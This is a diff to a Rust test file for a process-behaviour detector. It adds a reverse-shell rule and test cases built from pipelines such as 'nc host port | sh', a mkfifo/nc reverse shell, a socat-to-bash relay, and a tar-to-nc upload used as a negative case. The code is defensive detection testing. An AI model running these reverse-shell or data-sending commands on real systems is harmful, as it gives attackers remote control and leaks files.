@@ -109,7 +109,7 @@ fn raised(execs: &[X]) -> Vec<(String, u32)> {
                 .get("ruleId")
                 .cloned()
                 .unwrap_or_default();
-            if rule.contains("-pipe-exec") {
+            if rule.contains("-pipe-exec") || rule == RELAY {
                 let pid = o.finding.process.as_ref().map_or(0, |p| p.pid);
                 out.push((rule, pid));
             }
@@ -123,6 +123,7 @@ type Case<'a> = (&'a str, &'a [X], Option<(&'a str, u32)>);
 
 const DOWNLOAD: &str = "behaviour-download-pipe-exec";
 const DECODE: &str = "behaviour-decode-pipe-exec";
+const RELAY: &str = "behaviour-reverse-shell-pipe";
 
 #[test]
 fn shells_reading_downloaded_or_decoded_code_from_a_pipe() {
@@ -394,6 +395,84 @@ fn shells_reading_downloaded_or_decoded_code_from_a_pipe() {
             &[
                 x(10, "/usr/bin/python3", &["curl", "x"], None, Some(27)),
                 x(11, "/usr/bin/bash", &["bash"], Some(27), None),
+            ],
+            None,
+        ),
+        // Network relays: the shell takes its commands from a remote peer.
+        (
+            "nc host port | sh",
+            &[
+                x(
+                    10,
+                    "/usr/bin/nc.openbsd",
+                    &["nc", "10.0.0.1", "4444"],
+                    None,
+                    Some(28),
+                ),
+                x(11, "/usr/bin/dash", &["sh"], Some(28), None),
+            ],
+            Some((RELAY, 11)),
+        ),
+        (
+            "mkfifo f; sh -i < f 2>&1 | nc host port > f (the FIFO is nc's output)",
+            &[
+                x(11, "/usr/bin/dash", &["sh", "-i"], Some(29), Some(30)),
+                x(
+                    10,
+                    "/usr/bin/nc.traditional",
+                    &["nc", "10.0.0.1", "4444"],
+                    Some(30),
+                    Some(29),
+                ),
+            ],
+            Some((RELAY, 11)),
+        ),
+        (
+            "socat - TCP:host:port | cat | bash",
+            &[
+                x(
+                    10,
+                    "/usr/bin/socat",
+                    &["socat", "-", "TCP:10.0.0.1:4444"],
+                    None,
+                    Some(31),
+                ),
+                x(12, "/usr/bin/cat", &["cat"], Some(31), Some(32)),
+                x(11, "/usr/bin/bash", &["bash"], Some(32), None),
+            ],
+            Some((RELAY, 11)),
+        ),
+        (
+            "sh -c 'tar c .' | nc host port (a shell's output sent, nothing read)",
+            &[
+                x(
+                    11,
+                    "/usr/bin/dash",
+                    &["sh", "-c", "tar c ."],
+                    None,
+                    Some(33),
+                ),
+                x(
+                    10,
+                    "/usr/bin/nc.openbsd",
+                    &["nc", "10.0.0.1", "4444"],
+                    Some(33),
+                    None,
+                ),
+            ],
+            None,
+        ),
+        (
+            "nc host port | sh -c 'cat > f' (a command string: stdin is its data)",
+            &[
+                x(10, "/usr/bin/nc", &["nc", "h", "80"], None, Some(34)),
+                x(
+                    11,
+                    "/usr/bin/dash",
+                    &["sh", "-c", "cat > f"],
+                    Some(34),
+                    None,
+                ),
             ],
             None,
         ),
